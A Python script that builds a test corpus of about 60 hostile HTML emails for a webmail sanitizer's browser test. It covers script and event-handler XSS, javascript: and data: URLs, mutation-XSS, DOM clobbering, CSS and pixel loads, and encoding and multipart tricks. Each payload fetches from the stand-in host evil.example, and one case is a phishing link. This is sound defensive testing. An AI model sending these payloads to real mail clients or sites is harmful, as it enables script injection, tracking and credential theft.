"""Writes the hostile HTML mails of this directory (``NN-name.eml``). Run it after editing a
case: ``python tests/e2e/web/xss_corpus/make_corpus.py``. The .eml files are the corpus; the
browser test (``test_web_xss.py``) delivers each one over SMTP and opens it.

Conventions every payload follows, so the test can see it if it ever runs or loads:
* script: ``top.__rmXss('NN')`` (a hook the test installs in the top page), ``alert('NN')``
  (overridden and also caught as a dialog) and ``window.__xssRan='NN'`` (checked in every frame);
* network: any URL on ``evil.example`` (the test records and aborts every request that is not
  to 127.0.0.1, and requires none before the user clicks "show images").
"""

from __future__ import annotations

import base64
import quopri
from pathlib import Path

HERE = Path(__file__).resolve().parent
FROM = "Mallory <mallory@evil.example>"
TO = "alice@corp.test"


def js(n: str) -> str:
    """A payload that reports itself in every way the test watches."""
    return (f"window.__xssRan='{n}';try{{top.__rmXss('{n}')}}catch(e){{}};alert('{n}');"
            f"fetch('http://evil.example/js/{n}')")


def ev(n: str) -> str:
    """The same payload for use inside a double-quoted attribute."""
    return js(n).replace('"', "&quot;")


def u(n: str, what: str = "r") -> str:
    return f"http://evil.example/{what}/{n}"


# (name, html) -- "NN" in the html is replaced by the case number.
CASES: list[tuple[str, str]] = [
    ("script-inline", "<p>hello</p><script>JS</script>"),
    ("script-remote", '<script src="URL"></script><p>remote script</p>'),
    ("img-onerror", '<img src="x" onerror="EV">'),
    ("body-onload", '<html><body onload="EV"><p>body onload</p></body></html>'),
    ("svg-onload", '<svg onload="EV" width="10" height="10"></svg>'),
    ("svg-script", '<svg xmlns="http://www.w3.org/2000/svg"><script>JS</script></svg>'),
    ("svg-animate-onbegin", '<svg><animate onbegin="EV" attributeName="x" dur="1s"/></svg>'),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:JSQ"/>'
                     '<text x="10" y="20">click</text></a></svg>'),
    ("a-javascript", '<a href="javascript:JSQ">click me</a>'),
    ("a-javascript-entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
                              '&#58;JSQ">entity-encoded link</a>'),
    ("a-javascript-tab", '<a href="jav&#x09;ascript:JSQ">tab inside scheme</a>'
                         '<a href="  &Tab;javascript:JSQ">leading space and tab</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(NN)">vbscript</a>'),
    ("a-data-html", '<a href="data:text/html;base64,DATAHTML">data: html link</a>'),
    ("iframe-javascript", '<iframe src="javascript:JSQ"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;"></iframe>'),
    ("iframe-remote", '<iframe src="URL" width="300" height="100"></iframe>'),
    ("iframe-data", '<iframe src="data:text/html;base64,DATAHTML"></iframe>'),
    ("object-data", '<object data="data:text/html;base64,DATAHTML"></object>'
                    '<object type="application/x-shockwave-flash" data="URL"></object>'),
    ("embed-svg", '<embed src="data:image/svg+xml;base64,DATASVG" type="image/svg+xml">'
                  '<embed src="URL">'),
    ("frameset-onload", '<frameset onload="EV"><frame src="URL"></frameset>'),
    ("meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:JSQ"><p>refresh</p>'),
    ("meta-refresh-remote", '<head><meta http-equiv="refresh" content="0; url=URL"></head>'
                            '<p>redirect</p>'),
    ("base-href", '<base href="http://evil.example/base/NN/"><img src="pixel.gif">'
                  '<a href="page.html">relative</a>'),
    ("form-action", '<form action="URL" method="post"><input name="password" value="x">'
                    '<input type="submit" value="Log in"></form>'),
    ("form-autofocus", '<form><input autofocus onfocus="EV"></form>'),
    ("button-formaction", '<form><button formaction="javascript:JSQ">Go</button></form>'),
    ("details-ontoggle", '<details open ontoggle="EV"><summary>s</summary>x</details>'),
    ("video-poster", '<video poster="URL" src="URL" onerror="EV"></video>'),
    ("audio-onerror", '<audio src="x" onerror="EV"></audio><audio><source src="URL"></audio>'),
    ("marquee-onstart", '<marquee onstart="EV">scrolling</marquee>'),
    ("css-expression", '<div style="width: expression(alert(NN))">IE expression</div>'
                       '<style>p { behavior: url(URL); -moz-binding: url(URL#x) }</style><p>b</p>'),
    ("css-background-url", '<div style="background:url(URL);height:20px">bg</div>'
                           '<div style="background-image: url( &quot;URL&quot; )">bg2</div>'),
    ("css-import", '<style>@import "URL"; @import url(URL);</style><p>import</p>'),
    ("css-font-face", '<style>@font-face{font-family:x;src:url(URL)} p{font-family:x}</style>'
                      '<p>font</p>'),
    ("link-stylesheet", '<link rel="stylesheet" href="URL"><link rel="prefetch" href="URL">'
                        '<link rel="dns-prefetch" href="//evil.example"><p>links</p>'),
    ("img-remote-pixel", '<p>newsletter</p><img src="URL" width="1" height="1">'),
    ("img-srcset", '<img srcset="URL 1x, http://evil.example/r/NN-2x 2x" alt="srcset">'),
    ("picture-source", '<picture><source srcset="URL" media="(min-width: 1px)">'
                       '<img src="http://evil.example/r/NN-fallback" alt="pic"></picture>'),
    ("img-protocol-relative", '<img src="//evil.example/r/NN" alt="protocol relative">'),
    ("table-background", '<table background="URL"><tr><td background="URL">cell</td></tr></table>'),
    ("body-background", '<body background="URL"><p>body background</p></body>'),
    ("img-data-svg-script", '<img src="data:image/svg+xml;base64,DATASVG" alt="svg image">'),
    ("math-xlink", '<math><maction actiontype="statusline" xlink:href="javascript:JSQ">'
                   'CLICK</maction></math>'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=&quot;EV&quot;>">'
                      '</p></noscript>'),
    ("svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=&quot;EV&quot;>">'),
    ("comment-confusion", '<!--<img src="--><img src=x onerror="EV">'),
    ("template-content", '<template><img src=x onerror="EV"></template><p>template</p>'),
    ("entities-as-text", '<p>&lt;script&gt;JS&lt;/script&gt; shows as text</p>'
                         '<p>&lt;img src=x onerror=alert(NN)&gt;</p>'),
    ("uppercase-unquoted", '<IMG SRC=x ONERROR="EV"><img/src=x/onerror="EV">'),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:JSQ"><text x="5" y="15">svg link</text>'
                    '</a></svg>'),
    ("custom-element-handlers", '<x-y onclick="EV" onmouseover="EV">hover</x-y>'
                                '<div contenteditable autofocus onfocus="EV">edit</div>'),
    ("img-eval-src", '<img src="x:alert(NN)" onerror="eval(src)">'),
    ("legacy-tags", '<isindex action="javascript:JSQ" type="image">'
                    '<keygen autofocus onfocus="EV"><applet code="x.class"></applet>'
                    '<portal src="URL"></portal>'),
    ("a-ping", '<a href="https://ok.example/" ping="URL">ping</a>'),
    ("link-text-mismatch", '<p>请登录网上银行：<a href="http://evil.example/phish/NN">'
                           'https://www.icbc.com.cn/login</a></p>'),
    ("dom-clobbering", '<form name="getElementById"></form><img name="__rmXss" src="x">'
                       '<a id="defaultView" href="javascript:JSQ">clobber</a>'),
    ("meta-charset-utf7", '<meta charset="utf-7"><p>+ADw-script+AD4-JS+ADw-/script+AD4-</p>'),
    ("svg-foreignobject", '<svg><foreignObject><iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;">'
                          '</iframe><img src=x onerror="EV"></foreignObject></svg>'),
]

# Transfer-encoding / charset variants: (name, html, headers, body encoder)
SCRIPTY = '<p>encoded</p><script>JS</script><img src=x onerror="EV"><img src="URL">'


def _fill(html: str, n: str) -> str:
    data_html = base64.b64encode(f"<script>{js(n)}</script>".encode()).decode()
    data_svg = base64.b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ev(n)}"><script>{js(n)}</script>'
        f'</svg>'.encode()).decode()
    html = (html.replace("JSQ", js(n).replace('"', "%22")).replace("JS", js(n))
            .replace("EV", ev(n)).replace("URL", u(n)).replace("NN", n))
    return html.replace("DATAHTML", data_html).replace("DATASVG", data_svg)  # base64 last


def html_doc(body: str) -> str:
    if body.lstrip().lower().startswith(("<html", "<head", "<body", "<frameset", "<meta")):
        return body
    return f"<html><body>{body}</body></html>"


def message(n: str, name: str, ctype: str, cte: str, payload: bytes, *, multipart: str = "") -> bytes:
    head = (f"From: {FROM}\nTo: {TO}\nSubject: XSS-{n} {name}\n"
            f"Date: Thu, 26 Nov 2026 10:{int(n) % 60:02d}:00 +0800\n"
            f"Message-ID: <xss-{n}@evil.example>\nMIME-Version: 1.0\n")
    if multipart:
        return (head + multipart).encode()
    return (head + f"Content-Type: {ctype}\nContent-Transfer-Encoding: {cte}\n\n").encode() + payload


def main() -> None:
    for old in HERE.glob("*.eml"):
        old.unlink()
    out: list[tuple[str, bytes]] = []
    for i, (name, html) in enumerate(CASES, start=1):
        n = f"{i:02d}"
        body = html_doc(_fill(html, n)).encode()
        out.append((f"{n}-{name}", message(n, name, "text/html; charset=utf-8", "8bit", body + b"\n")))
    k = len(CASES)

    def nxt() -> str:
        nonlocal k
        k += 1
        return f"{k:02d}"

    n = nxt()  # quoted-printable
    body = quopri.encodestring(html_doc(_fill(SCRIPTY, n)).encode(), quotetabs=True)
    body = body.replace(b"<", b"=3C").replace(b">", b"=3E")
    out.append((f"{n}-quoted-printable", message(n, "quoted-printable", "text/html; charset=utf-8",
                                                 "quoted-printable", body + b"\n")))
    n = nxt()  # base64
    body = base64.encodebytes(html_doc(_fill(SCRIPTY, n)).encode())
    out.append((f"{n}-base64", message(n, "base64", "text/html; charset=utf-8", "base64", body)))
    n = nxt()  # UTF-7 charset label
    utf7 = _fill(SCRIPTY, n).encode("utf-7")
    out.append((f"{n}-charset-utf7", message(n, "charset utf-7", "text/html; charset=utf-7", "7bit",
                                             b"<html><body>" + utf7 + b"</body></html>\n")))
    n = nxt()  # GB18030 body whose bytes hide markup from a naive byte scanner
    gb = html_doc("<p>中文混淆</p>" + _fill(SCRIPTY, n)).encode("gb18030")
    out.append((f"{n}-charset-gb18030", message(n, "charset gb18030", "text/html; charset=gb18030",
                                                "base64", base64.encodebytes(gb))))
    n = nxt()  # multipart/alternative, hostile html next to a clean text part
    html = base64.encodebytes(html_doc(_fill(SCRIPTY, n)).encode()).decode()
    mp = ('Content-Type: multipart/alternative; boundary="b1"\n\n--b1\n'
          "Content-Type: text/plain; charset=utf-8\n\nplain text part\n--b1\n"
          "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
          f"{html}--b1--\n")
    out.append((f"{n}-multipart-alternative", message(n, "multipart alternative", "", "", b"",
                                                      multipart=mp)))
    n = nxt()  # multipart/related with a cid: SVG "image" that carries script
    svg = base64.encodebytes(_fill('<svg xmlns="http://www.w3.org/2000/svg" onload="EV">'
                                   "<script>JS</script><circle r='5'/></svg>", n).encode()).decode()
    mp = ('Content-Type: multipart/related; boundary="b2"\n\n--b2\n'
          "Content-Type: text/html; charset=utf-8\n\n"
          f'<html><body><p>cid svg</p><img src="cid:evil-{n}@x"></body></html>\n--b2\n'
          f"Content-Type: image/svg+xml\nContent-ID: <evil-{n}@x>\n"
          f"Content-Disposition: inline\nContent-Transfer-Encoding: base64\n\n{svg}--b2--\n")
    out.append((f"{n}-cid-svg", message(n, "cid svg", "", "", b"", multipart=mp)))
    n = nxt()  # forwarded message/rfc822 whose inner html is hostile
    inner = message(n, "inner", "text/html; charset=utf-8", "8bit",
                    html_doc(_fill(SCRIPTY, n)).encode()).decode()
    mp = ('Content-Type: multipart/mixed; boundary="b3"\n\n--b3\n'
          "Content-Type: text/plain; charset=utf-8\n\nsee attached\n--b3\n"
          f"Content-Type: message/rfc822\nContent-Disposition: inline\n\n{inner}\n--b3--\n")
    out.append((f"{n}-nested-rfc822", message(n, "nested rfc822", "", "", b"", multipart=mp)))
    n = nxt()  # encoded-word subject and display name carrying markup
    subj = "=?utf-8?b?" + base64.b64encode(f"<img src=x onerror=\"{js(n)}\">".encode()).decode() + "?="
    raw = (f"From: =?utf-8?q?=3Cscript=3Ealert({n})=3C/script=3E?= <mallory@evil.example>\n"
           f"To: {TO}\nSubject: XSS-{n} header {subj}\nMessage-ID: <xss-{n}@evil.example>\n"
           "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n"
           f"<script>{js(n)}</script> in a text/plain body\n")
    out.append((f"{n}-encoded-headers", raw.encode()))
    n = nxt()  # text/plain with javascript: and remote URLs (the app linkifies plain text)
    raw = message(n, "plain links", "text/plain; charset=utf-8", "8bit",
                  f"javascript:{js(n)}\n{u(n)}\n<img src={u(n)}>\n".encode())
    out.append((f"{n}-plain-links", raw))
    for fname, data in out:
        (HERE / f"{fname}.eml").write_bytes(data)
    print(f"wrote {len(out)} mails to {HERE}")


if __name__ == "__main__":
    main()
